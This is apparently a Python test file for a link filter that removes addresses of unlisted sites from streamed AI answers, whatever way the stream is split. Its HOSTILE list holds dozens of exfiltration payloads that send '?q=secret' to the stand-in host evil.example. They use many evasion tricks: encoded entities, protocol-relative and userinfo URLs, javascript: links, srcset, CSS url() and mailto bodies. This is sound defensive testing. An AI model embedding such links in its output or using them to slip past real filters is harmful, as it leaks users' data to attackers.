"""What an answer may link to, however it is written and wherever its stream is cut."""

from dataclasses import replace

import pytest

from domain.grounding.links import LinkFilter, Sites
from domain.grounding.reader import AnswerReader
from tests.builders import an_evidence

EVIL = "evil.example"
TEXT = (
    "See [the lid](lid.md#open) and https://other.example/manual. The API is at https://api.example/v1, "
    '<a href="https://linked.example/a">here</a>. [ref]: https://defined.example/x\nFetch("https://code.example/x").'
)


def sites(text: str = TEXT, url: str | None = "https://docs.example/guide/pump#lid") -> Sites:
    evidence = an_evidence(1, text=text)
    section = replace(evidence.section, url=url)
    return Sites([replace(evidence, document=replace(evidence.document, url=None), section=section)])


def passed(*pieces: str) -> str:
    links = LinkFilter(sites())
    return "".join([*(links.feed(piece) for piece in pieces), links.finish()])


HOSTILE = [
    f"Look ![x](https://{EVIL}/?q=secret) here.",
    f"Look [x](https://{EVIL}/?q=secret) here.",
    f'Look [x](<https://{EVIL}/?q=secret> "title") here.',
    f"Look [x](\n  https://{EVIL}/?q=secret) here.",
    f"Look [x](//{EVIL}/?q=secret) here.",
    f"Look [x](https:{EVIL}/?q=secret) here.",
    f"Look [x](\\\\{EVIL}/?q=secret) here.",
    f"Look [x](https&#58;//{EVIL}/?q=secret) here.",
    f"Look [x](https&colon;//{EVIL}/?q=secret) here.",
    f"Look [x](javascript:fetch('//{EVIL}')) here.",
    f"Look [x](https://docs.example@{EVIL}/?q=secret) here.",
    f"Look [x](https://docs.example.{EVIL}/?q=secret) here.",
    f"Look [x](https://docs.example\\@{EVIL}/?q=secret) here.",
    f"Look [x](https://a(b)c.{EVIL}/(secret)) here.",
    f"Look [x](https://{EVIL}/?q=secret",
    f"Look [x][r] here.\n\n[r]: https://{EVIL}/?q=secret\n",
    f"Look [x][r] here.\n\n[r]:\n  <https://{EVIL}/?q=secret>\n",
    f"Look [x][r] here.\n\n[r]: //{EVIL}/?q=secret 'title'\n",
    f"Look [r] here.\n\n[r]: &#104;ttps://{EVIL}/?q=secret",
    f"Look <https://{EVIL}/?q=secret> here.",
    f"Look <HTTPS://{EVIL}/?q=secret> here.",
    f"Look <leak@{EVIL}> here.",
    f"Look <mailto:leak@{EVIL}?body=secret> here.",
    f"Look https://{EVIL}/?q=secret here.",
    f"Look (http://{EVIL}/?q=secret), here.",
    f"Look ftp://{EVIL}/secret here.",
    f"Look www.{EVIL}/?q=secret here.",
    f"Look WWW.{EVIL}/?q=secret here.",
    f'Look <img src="https://{EVIL}/?q=secret"> here.',
    f"Look <img src=//{EVIL}/?q=secret> here.",
    f'Look <img\n  alt="x"\n  src="ht\ntps://{EVIL}/?q=secret"\n/> here.',
    f'Look <img src="/\t/{EVIL}/?q=secret"> here.',
    f'Look <img src="&#104;ttps&colon;//{EVIL}/?q=secret"> here.',
    f'Look <a href="https:{EVIL}">x</a> here.',
    f'Look <p style="background:url(https://{EVIL}/?q=secret)">x</p> here.',
    f'Look <img srcset="https://docs.example/a.png 1x, https://{EVIL}/b.png 2x"> here.',
    f"Look <a href=\"javascript:go('{EVIL}')\">x</a> here.",
    f'Look <img src="https://{EVIL}/?q=secret" here.',
    f"` Look ![x](https://{EVIL}/?q=secret) here.",
    f"    ```\n![x](//{EVIL}/?q=secret) here.",
    f"Look https://docs.example/a)https://{EVIL}/?q=secret here.",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_address_of_another_site_reaches_a_reader(hostile: str) -> None:
    assert EVIL not in passed(hostile)
    assert passed(hostile).strip(" `\n").startswith(("Look", "![x]"))


KEPT = [
    "A deep link looks like `app://` or begins with http:// and a name.",
    "Plain text, and: more/of it; a < b, List<String>, f(x)[0](y), 10:30, and/or.",
    "Open [the lid](https://docs.example/guide/lid) now.",
    'Open ![the lid](https://docs.example/lid.png "The lid") now.',
    "Open [the lid](lid.md#open) now.",
    "Open [the lid](#lid) now.",
    "See https://docs.example/guide?a=b#c, it says.",
    "See <https://docs.example/guide>.",
    'See <a href="https://docs.example/x">this</a> and <b>that</b>.',
    "See https://other.example/manual.",
    'See <a href="https://linked.example/a">here</a>.',
    "See [x][ref].\n\n[ref]: https://defined.example/x\n",
    '```js\nfetch("https://code.example/x");\nconst a = b[0](c); // no comment\n```',
    "Sources:\n\n[1]: The manual\n[2]: see above",
    "It is so [1]: the pump hums [1][2].",
    '`<Button title="x" onPress={() => go()} />`',
    "ww. w3 www and www",
]


@pytest.mark.parametrize("kept", KEPT)
def test_what_leads_to_the_documents_and_what_is_no_link_stays_as_it_is(kept: str) -> None:
    assert passed(kept) == kept


def test_the_text_of_a_link_stays_and_the_place_of_an_address_shows() -> None:
    assert passed(f"A [b](https://{EVIL}/) c.") == "A [b] c."
    assert passed(f"A ![b](https://{EVIL}/) c.") == "A ![b] c."
    assert passed(f"A https://{EVIL}/x, c.") == "A https:…, c."
    assert passed(f"A <i>b</i> <img src='//{EVIL}/'> c.") == "A <i>b</i>  c."


def test_a_long_address_of_the_documents_with_something_put_in_is_another() -> None:
    assert passed("See https://other.example/manual?q=secret now.") == "See https:… now."


@pytest.mark.parametrize("text", [*HOSTILE, *KEPT])
def test_the_outcome_does_not_depend_on_where_the_stream_is_cut(text: str) -> None:
    whole = passed(text)
    for at in range(1, len(text)):
        assert passed(text[:at], text[at:]) == whole
    assert passed(*text) == whole


@pytest.mark.parametrize("text", HOSTILE)
def test_nor_does_what_a_reader_of_the_whole_answer_is_given(text: str) -> None:
    def given(*pieces: str) -> str:
        reader = AnswerReader(2, sites())
        out = []
        for piece in pieces:
            if reader.takes_whole(piece):
                out.append(piece)
            else:
                out.append(reader.feed(piece).text)
        out.append(reader.finish().text)
        assert "".join(out) == reader.text
        return reader.text

    text = f"First it hums [1]. {text}"
    whole = given(text)
    assert EVIL not in whole
    for at in range(1, len(text)):
        assert given(text[:at], text[at:]) == whole


def test_what_never_ends_is_let_go_as_text() -> None:
    text = f"A [b](https://{EVIL}/{'x' * 3000}) c <img src=https://{EVIL}/{'y' * 3000}> d."
    whole = passed(text)
    assert EVIL not in whole
    assert passed(*text) == whole


def test_without_a_site_only_what_the_evidence_links_to_may_stand() -> None:
    links = LinkFilter(sites("Go to https://a.example/x.", None))
    assert links.feed("See https://a.example/x and https://a.example/y.") + links.finish() == (
        "See https://a.example/x and https:…."
    )
